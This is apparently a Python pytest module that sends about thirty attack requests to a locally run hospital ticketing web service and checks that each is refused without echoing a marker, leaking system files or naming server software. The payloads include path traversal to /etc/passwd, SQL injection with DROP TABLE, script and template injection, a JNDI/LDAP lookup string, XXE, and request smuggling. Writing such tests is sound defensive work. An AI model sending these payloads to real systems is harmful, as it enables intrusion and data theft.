"""What attackers try on any web application, byte by byte: nothing of it is carried out, told back, or kept.

Source: https://owasp.org/www-project-web-security-testing-guide/
"""

import socket
import uuid
from collections.abc import Iterator

import httpx
import pytest

from tests.deployment import HOSPITAL, Deployment
from tests.processes import SECONDS_MAX
from tests.web.api_client import api_client
from tests.web.web_process import WebProcess, await_ready, start_web

MARK = "zq7marker"
"""Stands in each attempt, and may come back in no answer."""

JSON = b"Content-Type: application/json\r\n"
KEY = f"Idempotency-Key: {uuid.uuid4()}\r\n".encode()
REGISTERS = b"POST /api/v1/tickets HTTP/1.1\r\nHost: x\r\nConnection: close\r\n" + JSON + KEY


@pytest.fixture(scope="module")
def process(hospital: Deployment) -> Iterator[WebProcess]:
    """The process that is attacked, and still answers somebody honest at the end."""
    process = start_web(hospital, "web")
    await_ready(process)
    yield process
    with api_client(process, hospital) as honest:
        assert honest.get("/hospitals").status_code == 200
    assert MARK not in process.program.output
    assert '"event": "fault"' not in process.program.output
    assert process.program.stop() == 0


def answered(process: WebProcess, sent: bytes) -> bytes:
    """All that comes back until the process closes."""
    with socket.create_connection(("127.0.0.1", process.port), SECONDS_MAX) as connection:
        connection.sendall(sent)
        received = b""
        while part := connection.recv(65_536):
            received += part
    return received


def asked(target: str, *headers: str) -> bytes:
    """A GET of a target as it stands."""
    lines = [f"GET {target} HTTP/1.1", "Host: x", "Connection: close", *headers, "", ""]
    return "\r\n".join(lines).encode()


def sent(body: str, *headers: str, length: int | None = None) -> bytes:
    """A registration with this body."""
    more = "".join(f"{each}\r\n" for each in headers).encode()
    size = len(body.encode()) if length is None else length
    return REGISTERS + more + f"Content-Length: {size}\r\n\r\n{body}".encode()


MEMBERS = f'"hospital": "{HOSPITAL}", "clinic": "C01", "medical_record_number": "1", "name": "Siti"'

ATTEMPTS = {
    "path traversal": asked(f"/static/../{MARK}/../app.py"),
    "path traversal, encoded": asked(f"/static/%2e%2e%2f%2e%2e%2f{MARK}"),
    "a file of the system": asked(f"/static//etc/passwd?{MARK}"),
    "a null byte": asked(f"/api/v1/tickets/{MARK}%00"),
    "a script in the path": asked(f"/api/v1/tickets/%3Cscript%3E{MARK}%3C/script%3E"),
    "a script in the query": asked(f"/api/v1/hospitals?after=%3Cscript%3E{MARK}"),
    "SQL in a code": asked(f"/api/v1/tickets/'%20OR%201=1--{MARK}"),
    "SQL in a query": asked(f"/api/v1/hospitals?after='%3BDROP%20TABLE%20tickets--{MARK}"),
    "a template": asked(f"/api/v1/tickets/{{{{7*7}}}}{MARK}"),
    "a header in the path": asked(f"/api/v1/tickets/a%0D%0ASet-Cookie:%20{MARK}=1"),
    "another host": asked("/api/v1", f"X-Forwarded-Host: {MARK}.example", f"X-Original-URL: /{MARK}"),
    "an open redirect": asked(f"//{MARK}.example/%2e%2e"),
    "a whole address": asked(f"http://{MARK}.example/api/v1/nothing"),
    "another method": asked("/api/v1/tickets", "X-HTTP-Method-Override: POST", f"X: {MARK}"),
    "an upgrade": asked("/api/v1/nothing", "Connection: upgrade", "Upgrade: websocket", f"X: {MARK}"),
    "a log line": asked(f'/api/v1/nothing?a=%0A{{"event":"{MARK}"}}', f"User-Agent: ${{jndi:ldap://{MARK}}}"),
    "a forged device": asked(
        "/api/v1/nothing", f"Antrean-Device: {MARK}", f"Cookie: device={MARK}; language=x"
    ),
    "more members": sent(f'{{{MEMBERS}, "date_of_birth": "1990", "lane": "emergency", "{MARK}": 1}}'),
    "a prototype": sent(f'{{"__proto__": {{"{MARK}": 1}}, "constructor": 1}}'),
    "a member twice": sent(f'{{{MEMBERS}, "date_of_birth": "1990", "name": "{MARK}"}}'),
    "deep nesting": sent('{"a":' * 1_500 + f'"{MARK}"' + "}" * 1_500),
    "a long number": sent(f'{{"newborn": {"9" * 5_000}, "name": "{MARK}"}}'),
    "half a character": sent(f'{{"name": "\\ud800{MARK}"}}'),
    "XML with an entity": sent(f'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;{MARK}</a>'),
    "a compressed body": sent(f'{{"{MARK}": 1}}', "Content-Encoding: gzip"),
    "two lengths": sent(f'{{"{MARK}": 1}}', "Content-Length: 3"),
    "length and chunks": sent(f"0\r\n\r\nGET /{MARK} HTTP/1.1\r\n\r\n", "Transfer-Encoding: chunked"),
    "a length below zero": sent(MARK, length=-1),
    "a space in a header": b"GET / HTTP/1.1\r\nHost : x\r\nX: " + MARK.encode() + b"\r\n\r\n",
    "no HTTP": b"\x16\x03\x01\x02\x00\x01\x00" + MARK.encode() + b"\r\n\r\n",
}


@pytest.mark.parametrize("attempt", ATTEMPTS)
def test_an_attempt_is_refused_and_told_nothing(process: WebProcess, attempt: str) -> None:
    answer = answered(process, ATTEMPTS[attempt])
    assert answer.startswith((b"HTTP/1.1 4", b"HTTP/1.1 200")) or attempt == "no HTTP", answer
    assert b"HTTP/1.1 201" not in answer
    assert answer.count(b"HTTP/1.1 ") <= 1, "two answers to one request"
    head, _, body = answer.partition(b"\r\n\r\n")
    assert MARK.encode() not in body
    assert MARK.encode() not in head
    assert b"root:" not in body
    assert b"Traceback" not in body


def test_what_is_answered_names_no_program_and_no_version(process: WebProcess) -> None:
    for path in ("/api/v1/hospitals", "/api/v1/nothing", "/static/nothing", "/nothing"):
        answer = httpx.get(f"{process.url}{path}", timeout=SECONDS_MAX)
        told = f"{answer.headers} {answer.text}".lower()
        assert not any(word in told for word in ("uvicorn", "starlette", "python", "h11", "rabbitmq"))
